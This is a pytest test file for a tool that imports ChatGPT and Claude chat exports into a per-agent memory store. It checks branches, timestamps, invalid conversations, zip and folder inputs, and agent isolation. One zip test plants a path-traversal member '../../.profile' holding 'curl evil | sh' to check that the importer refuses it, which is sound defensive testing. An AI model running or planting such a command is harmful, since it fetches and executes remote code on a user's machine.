"""``amem lcm ingest conversations.json``: a ChatGPT or Claude data export loads, through the
installed script, each conversation under the caller's agent, idempotent, bad ones named."""

from __future__ import annotations

import json
import sqlite3
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest

from amem import MemoryStore
from lcm import LcmStore
from tools import ToolFacade

from .chat_exports import (CLAUDE_ID, LISBON_ID, chatgpt_chain, chatgpt_lisbon, claude_edited, claude_invoice,
                           gpt_node)
from .test_lcm_host import amem, amem_json, env_for, stored_messages

pytestmark = pytest.mark.slow


def export(path: Path, conversations: list[Any]) -> Path:
    path.write_text(json.dumps(conversations, indent=2), encoding="utf-8")
    return path


def rows(home: Path, key: str) -> list[tuple[Any, ...]]:
    """(event id, role, created_at, name, content) of a conversation's messages, in stored order."""
    with sqlite3.connect(home / "lcm.db") as db:
        return db.execute(
            "SELECT m.stable_event_key, m.role, m.created_at, m.name, m.content FROM messages m "
            "JOIN conversations c ON c.id = m.conversation_id WHERE c.session_key = ? ORDER BY m.seq",
            (key,)).fetchall()


def conversations(home: Path) -> dict[str, str | None]:
    with sqlite3.connect(home / "lcm.db") as db:
        return dict(db.execute("SELECT session_key, title FROM conversations ORDER BY id").fetchall())


def test_a_chatgpt_export_loads_each_conversation_once(tmp_path: Path) -> None:
    home = tmp_path / "home"
    env = env_for(home)
    src = export(tmp_path / "conversations.json", [chatgpt_lisbon(), chatgpt_chain("c-2", 6, title="Invoices")])
    first = amem_json(env, "lcm", "ingest", str(src), "--agent", "alice")
    assert (first["format"], first["conversations"], first["conversations_stored"]) == ("chatgpt", 2, 2)
    assert (first["messages"], first["branches"], first["branch_messages"]) == (13, 2, 3)
    # stored: the messages, the branches' messages and a fork marker before each branch
    assert (first["stored"], first["skipped_duplicates"], first["invalid"], first["fork_points"]) == (18, 0, 0, 2)
    assert first["left_out"] == {"empty": 1, "reasoning": 1}
    key = f"agent:alice:chatgpt:{LISBON_ID}"
    assert conversations(home) == {key: "Lisbon trip",
                                   f"{key}:branches": "Lisbon trip (edited and regenerated branches)",
                                   "agent:alice:chatgpt:c-2": "Invoices"}
    got = rows(home, key)
    assert [(r[0], r[1], r[3]) for r in got] == [
        ("event:ctx-1", "user", None), ("event:u-1", "user", None), ("event:a-1", "assistant", None),
        ("event:u-2b", "user", None), ("event:code-1", "assistant", None), ("event:out-1", "tool", "python"),
        ("event:a-2c", "assistant", None)]
    # the app's own times (epoch seconds) as the messages' times, in order
    assert [r[2] for r in got] == ["2024-05-01T07:59:55.250Z", "2024-05-01T08:00:00.250Z",
                                   "2024-05-01T08:00:10.250Z", "2024-05-01T08:03:20.250Z",
                                   "2024-05-01T08:03:40.250Z", "2024-05-01T08:03:41.250Z",
                                   "2024-05-01T08:03:50.250Z"]
    assert got[-1][4] == "Sintra is 40 minutes by train from Rossio."
    assert "[image: file-service://file-Tram28]" in got[1][4]
    assert [r[0] for r in rows(home, f"{key}:branches")] == ["event:fork:u-2a", "event:u-2a", "event:a-2a",
                                                              "event:fork:a-2b", "event:a-2b"]
    # a reader of the branches sees where each left the main line
    branches_id = next(c["id"] for c in amem_json(env, "lcm", "browse", "conversations")["conversations"]
                       if c["session_key"] == f"{key}:branches")
    browsed = amem(env, "lcm", "browse", "messages", str(branches_id)).stdout
    assert 'system' in browsed and '[branch after u-2b (user, on the main line): "What about a day trip to' in browsed

    again = amem_json(env, "lcm", "ingest", str(src), "--agent", "alice")
    assert (again["stored"], again["skipped_duplicates"], again["conversations_stored"]) == (0, 18, 0)
    # a newer export: one conversation grew a turn, and the user renamed it
    grown = chatgpt_chain("c-2", 7, title="Invoices, May")
    export(src, [chatgpt_lisbon(), grown])
    later = amem(env, "lcm", "ingest", str(src), "--agent", "alice").stdout
    assert "stored 1 message in 1 conversation, already there 18" in later
    assert conversations(home)["agent:alice:chatgpt:c-2"] == "Invoices, May"
    assert stored_messages(env) == 19
    # the agent finds its chat by what was said in it
    hits = amem(env, "lcm", "grep", "Rossio", "--session-key", key, "--agent", "alice").stdout
    assert "1 hits" in hits
    # and by its title, which the operator's listing shows
    listed = amem_json(env, "lcm", "browse", "conversations")["conversations"]
    assert [(c["session_key"], c["title"]) for c in listed][0] == (key, "Lisbon trip")
    assert f"{key}  'Lisbon trip'" in amem(env, "lcm", "browse", "conversations").stdout


def test_a_claude_export_loads_with_its_attachments_and_tool_turns(tmp_path: Path) -> None:
    home = tmp_path / "home"
    env = env_for(home, AMEM_AGENT="bob")
    src = export(tmp_path / "conversations.json", [claude_invoice()])
    done = amem(env, "lcm", "ingest", str(src))
    assert "read 1 conversation (claude export): stored 5 messages in 1 conversation" in done.stdout
    assert "conversations are under agent:bob:claude:<id>" in done.stdout
    assert "left out 1 message with no text, 1 of the model's reasoning (thinking)" in done.stdout
    got = rows(home, f"agent:bob:claude:{CLAUDE_ID}")
    assert [(r[0], r[1], r[2]) for r in got] == [
        ("event:m-1", "user", "2024-05-01T10:00:01.123Z"), ("event:m-2", "assistant", "2024-05-01T10:00:09.000Z"),
        ("event:m-2#1", "tool", "2024-05-01T10:00:09.000Z"), ("event:m-2#2", "assistant", "2024-05-01T10:00:09.000Z"),
        ("event:m-4", "user", "2024-05-01T10:02:00.000Z")]
    assert "[file: text/csv, ledger.csv]\ninvoice,paid\n1042,yes" in got[0][4]
    assert "[image: bank-screenshot.png]" in got[0][4]
    assert got[1][4].startswith("Let me check the bank's notice.\n[tool_calls] ")
    assert conversations(home) == {f"agent:bob:claude:{CLAUDE_ID}": "Invoice 1042"}
    again = amem_json(env, "lcm", "ingest", str(src))
    assert (again["stored"], again["skipped_duplicates"]) == (0, 5)
    # claude.ai's retried answers and edited prompts: the newest line, the rest kept apart
    edited = amem_json(env, "lcm", "ingest", str(export(src, [claude_invoice(), claude_edited()])))
    assert (edited["stored"], edited["branches"], edited["branch_messages"]) == (8, 2, 2)
    assert [r[4] for r in rows(home, "agent:bob:claude:7e1c-edited")] == [
        "When is the deploy window?", "Tuesdays and Thursdays, 14:00 UTC.", "And the December freeze?",
        "From 18 December to 2 January."]
    assert [r[0] for r in rows(home, "agent:bob:claude:7e1c-edited:branches")] == [
        "event:fork:r-1", "event:r-1", "event:fork:q-2", "event:q-2"]


def test_bad_conversations_refuse_the_file_unless_skipped(tmp_path: Path) -> None:
    home = tmp_path / "home"
    env = env_for(home)
    cycle = chatgpt_chain("c-cycle", 4, title="Loop")
    cycle["mapping"]["m0"]["parent"] = "m3"
    broken = chatgpt_chain("c-broken", 4, title="Broken")
    broken["mapping"]["m2"]["parent"] = "m-gone"
    src = export(tmp_path / "conversations.json", [chatgpt_chain("c-ok", 4, title="Fine"), cycle, broken])
    refused = amem(env, "lcm", "ingest", str(src), "--agent", "alice", code=2).stderr
    assert "2 of 3 conversations cannot be read; nothing was stored" in refused
    assert "conversation 2 ('Loop', id c-cycle): a cycle in parent ('m0' -> 'm3' -> 'm2' -> 'm1' -> 'm0')" in refused
    assert "conversation 3 ('Broken', id c-broken): node 'm2' names the parent 'm-gone'" in refused
    assert "--skip-invalid" in refused
    assert stored_messages(env) == 0
    skipped = amem(env, "lcm", "ingest", str(src), "--agent", "alice", "--skip-invalid", code=1)
    assert f"amem: skipped {src}:" in skipped.stderr and "c-cycle" in skipped.stderr
    assert "stored 4 messages in 1 conversation" in skipped.stdout
    assert "skipped 2 conversations that cannot be read" in skipped.stdout
    assert list(conversations(home)) == ["agent:alice:chatgpt:c-ok"]
    # a file that stops being JSON: refused naming the line, what is stored stays
    src.write_text(json.dumps([chatgpt_chain("c-new", 2)], indent=2)[:-40], encoding="utf-8")
    cut = amem(env, "lcm", "ingest", str(src), "--agent", "alice", code=2).stderr
    assert f"{src}:" in cut and "is not valid JSON" in cut
    assert stored_messages(env) == 4
    # a bad time is a bad conversation too, named with its message
    late = chatgpt_chain("c-time", 2)
    late["mapping"]["m1"]["message"]["create_time"] = "yesterday"
    bad_time = amem(env, "lcm", "ingest", str(export(src, [late])), code=2).stderr
    assert "conversation 1 ('A long chat', id c-time): node 'm1': create_time 'yesterday' is not a time" in bad_time
    local = claude_invoice()
    local["chat_messages"][3]["created_at"] = "2024-05-01 10:02:00"  # no offset: refused, not guessed
    no_zone = amem(env, "lcm", "ingest", str(export(src, [local])), code=2).stderr
    assert "conversation 1 ('Invoice 1042'" in no_zone and "message 'm-4':" in no_zone
    assert "has no timezone offset" in no_zone
    assert stored_messages(env) == 4


def test_an_export_in_real_shapes_loads_and_the_report_names_what_it_did(tmp_path: Path) -> None:
    # shapes of real exports (tests/fixtures/chat_exports): voice turns, search tool traffic, citation
    # markers, hidden context, and shapes no reader knows (a role, a content type, a broken message)
    home = tmp_path / "home"
    env = env_for(home)
    src = Path(__file__).resolve().parents[1] / "fixtures" / "chat_exports" / "chatgpt_real_shapes.json"
    done = amem(env, "lcm", "ingest", str(src), "--agent", "alice")
    assert "read 2 conversations (chatgpt export): stored 23 messages in 2 conversations" in done.stdout
    assert ("kept 1 message the app hides (custom instructions, memory notes), 6 tool outputs"
            in done.stdout)
    assert "stored as placeholders (the export holds no bytes of them): 2 audio, 2 images" in done.stdout
    assert ("left out 3 messages with no text, 2 of the model's reasoning (thinking), 1 message that could "
            "not be read (named in the warnings)") in done.stdout
    assert "content type 'hologram_text', which this reader does not know, kept as their text" in done.stderr
    assert "author role 'critic', which this reader does not know, kept as system messages" in done.stderr
    assert "node 'o4' (its content is not an object)" in done.stderr
    got = rows(home, "agent:alice:chatgpt:6751a3c2-7d10-800c-9e1f-3b2a1c0d9e90")
    assert [(r[0], r[1], r[3]) for r in got] == [("event:o1", "user", None), ("event:o2", "system", "critic"),
                                                 ("event:o3", "assistant", None), ("event:o5", "assistant", None)]


def test_an_export_takes_no_session_key_and_stdin_says_to_save_it(tmp_path: Path) -> None:
    env = env_for(tmp_path / "home")
    src = export(tmp_path / "conversations.json", [claude_invoice()])
    err = amem(env, "lcm", "ingest", str(src), "--session-key", "agent:host:main", code=2).stderr
    assert "is a Claude export of many conversations" in err and "drop it" in err
    piped = subprocess_stdin(env, src)  # as a newcomer pipes it: no --session-key
    # was: "--session-key is required for a transcript", and with one this refusal
    assert "stdin is a Claude export" in piped and "save it to a file and give that" in piped
    assert "session-key" not in piped
    # a transcript still needs its key
    lines = tmp_path / "t.jsonl"
    lines.write_text(json.dumps({"role": "user", "content": "hi"}) + "\n", encoding="utf-8")
    assert "--session-key is required for a transcript" in amem(env, "lcm", "ingest", str(lines), code=2).stderr
    # a missing file is said as such (it was asked for its --session-key)
    missing = amem(env, "lcm", "ingest", str(tmp_path / "Downloads" / "conversations.json"), code=2).stderr
    assert "no such file: " in missing and "session-key" not in missing
    assert stored_messages(env) == 0


def subprocess_stdin(env: dict[str, str], src: Path) -> str:
    import subprocess

    from .test_lcm_host import AMEM, ROOT

    done = subprocess.run([str(AMEM), "lcm", "ingest", "-"],
                          input=src.read_text(encoding="utf-8"), env=env, capture_output=True, text=True,
                          timeout=120, cwd=ROOT)
    assert done.returncode == 2, done.stderr
    return done.stderr


def test_a_ten_thousand_turn_conversation_loads(tmp_path: Path) -> None:
    home = tmp_path / "home"
    env = env_for(home)
    src = export(tmp_path / "conversations.json", [chatgpt_chain("c-deep", 10_000)])
    started = time.perf_counter()
    done = amem_json(env, "lcm", "ingest", str(src))
    assert (done["stored"], done["messages"]) == (10_000, 10_000)
    assert time.perf_counter() - started < 60
    got = rows(home, "agent:default:chatgpt:c-deep")
    assert got[0][0] == "event:m0" and got[-1][0] == "event:m9999" and len(got) == 10_000


def test_the_conversations_are_the_importing_agents_alone(tmp_path: Path, memory: MemoryStore) -> None:
    home = tmp_path / "home"
    env = env_for(home)
    amem(env, "lcm", "ingest", str(export(tmp_path / "c.json", [chatgpt_lisbon()])), "--agent", "alice")
    with LcmStore(home / "lcm.db") as lcm:
        alice = ToolFacade(memory, lcm, agent_id="alice")
        found = alice.call("lcm_grep", {"pattern": "Rossio", "allConversations": True})["hits"]
        assert [h["snippet"] for h in found] == ["Sintra is 40 minutes by train from Rossio."]
        assert alice.call("lcm_grep", {"pattern": "Porto", "allConversations": True})["hits"]  # a branch
        mallory = ToolFacade(memory, lcm, agent_id="mallory")
        assert mallory.call("lcm_grep", {"pattern": "Rossio|Porto", "allConversations": True})["hits"] == []


def test_the_zip_the_app_sends_loads_as_it_is(tmp_path: Path) -> None:
    home = tmp_path / "home"
    env = env_for(home)
    bundle = tmp_path / "chatgpt-export.zip"
    with zipfile.ZipFile(bundle, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("chat.html", "<html>the same chats, for a browser</html>")
        z.writestr("file-Tram28-tram.jpg", b"\xff\xd8\xff\xe0 not really a photo")
        z.writestr("conversations.json", json.dumps([chatgpt_lisbon()], indent=2))
    done = amem_json(env, "lcm", "ingest", str(bundle), "--agent", "alice")
    assert (done["format"], done["stored"]) == ("chatgpt", 12)
    assert amem_json(env, "lcm", "ingest", str(bundle), "--agent", "alice")["stored"] == 0
    # a bad conversation inside is named by the zip and the file in it
    broken = chatgpt_lisbon()
    broken["current_node"] = "nope"
    with zipfile.ZipFile(bundle, "w") as z:
        z.writestr("conversations.json", json.dumps([broken], indent=2))
    err = amem(env, "lcm", "ingest", str(bundle), code=2).stderr
    assert f"{bundle}:conversations.json:2: conversation 1 ('Lisbon trip'" in err
    # a zip made to be unpacked outside its folder is no export: refused, named, nothing stored
    with zipfile.ZipFile(bundle, "w") as z:
        z.writestr("conversations.json", json.dumps([chatgpt_chain("c-new", 2)]))
        z.writestr("../../.profile", "curl evil | sh")
    err = amem(env, "lcm", "ingest", str(bundle), "--skip-invalid", code=2).stderr
    assert "its member '../../.profile' points outside the archive" in err and "nothing was stored" in err
    assert rows(home, "agent:default:chatgpt:c-new") == []


def test_an_unzipped_folder_and_a_wrapped_file_load_as_the_zip_does(tmp_path: Path) -> None:
    # a folder was "[Errno 21] Is a directory" (exit 1), and amem import took its chat.html for
    # notes; {"conversations": [...]} was refused with a jq line to unwrap it
    from .test_chat_export_folder import chatgpt_folder

    home = tmp_path / "home"
    env = env_for(home)
    folder = chatgpt_folder(tmp_path / "chatgpt-export")
    done = amem(env, "lcm", "ingest", str(folder), "--agent", "alice")
    assert "read 2 conversations (chatgpt export): stored 16 messages in 2 conversations" in done.stdout
    assert (f"read 1 file of conversations ({folder / 'conversations.json'}); other files not read: 3 of the "
            "account's other data, 1 hidden, 2 files uploaded or generated in the chats, 1 no export holds (named "
            "on stderr), 1 web page of the same conversations (chat.html)") in done.stdout
    assert f"amem: warning: {folder / 'notes for later.txt'}: not a file of a ChatGPT or Claude export" in done.stderr
    err = amem(env, "import", str(folder), code=2).stderr
    assert f"with `amem lcm ingest {folder}`" in err
    wrapped = tmp_path / "export.json"
    wrapped.write_text(json.dumps({"conversations": [claude_invoice()]}), encoding="utf-8")
    got = amem_json(env, "lcm", "ingest", str(wrapped), "--agent", "alice")
    assert (got["format"], got["conversations_stored"], got["invalid"]) == ("claude", 1, 0)


def test_untimed_repeats_load_and_a_real_flood_is_named_while_the_rest_load(tmp_path: Path) -> None:
    # an old export with no times: every message borrows the conversation's, so four identical
    # "continue" prompts fall in one second, which the store's replay guard refuses; those go
    # in at the import's time instead (said in a warning)
    home = tmp_path / "home"
    env = env_for(home)
    untimed = chatgpt_chain("c-untimed", 8, title="Story")
    # and four identical prompts the app itself timed in one second: refused, named, the rest go on
    flood = chatgpt_chain("c-flood", 8, title="Loop")
    for conv, own_time in ((untimed, None), (flood, 1714550400.5)):
        for i, node in enumerate(n for n in conv["mapping"].values() if n["message"]):
            node["message"]["create_time"] = own_time
            if i % 2 == 0:
                node["message"]["content"]["parts"] = ["continue"]
    src = export(tmp_path / "c.json", [untimed, flood, chatgpt_chain("c-ok", 2)])
    done = amem(env, "lcm", "ingest", str(src), code=1)
    assert ("conversation 'Story' (id c-untimed): 4 messages without a time of their own were stored at the "
            "import's time") in done.stderr
    assert "conversation 2 ('Loop', id c-flood): the store refused it (refused batch: 4 identical user" in done.stderr
    assert "0 of its messages were stored before that" in done.stderr
    assert "stored 10 messages in 2 conversations" in done.stdout
    assert list(conversations(home)) == ["agent:default:chatgpt:c-untimed", "agent:default:chatgpt:c-ok"]
    assert [r[4] for r in rows(home, "agent:default:chatgpt:c-untimed")][:3] == [
        "continue", "turn 1: invoice 10001 is paid", "continue"]
    again = amem(env, "lcm", "ingest", str(src), code=1)
    assert "stored 0 messages in 0 conversations, already there 10" in again.stdout


def test_backfill_refuses_an_export_naming_the_command_that_loads_it(tmp_path: Path) -> None:
    # backfill is one transcript under one key (backfill:<session id>) with one transplant
    # target; an export is many conversations, each under its own key: `amem lcm ingest` loads it
    home = tmp_path / "home"
    env = env_for(home)
    src = export(tmp_path / "conversations.json", [chatgpt_lisbon()])
    bundle = tmp_path / "claude-export.zip"
    with zipfile.ZipFile(bundle, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("conversations.json", json.dumps([claude_invoice()]))
    for path, app in ((src, "ChatGPT"), (bundle, "Claude")):
        err = amem(env, "lcm", "backfill", str(path), "--session-id", "old", "--apply", code=2).stderr
        assert f"{path} is a {app} export of many conversations" in err, err
        assert f"amem lcm ingest {path}" in err and "one transcript" in err
    assert not (home / "lcm.db").exists() or rows(home, "backfill:old") == []
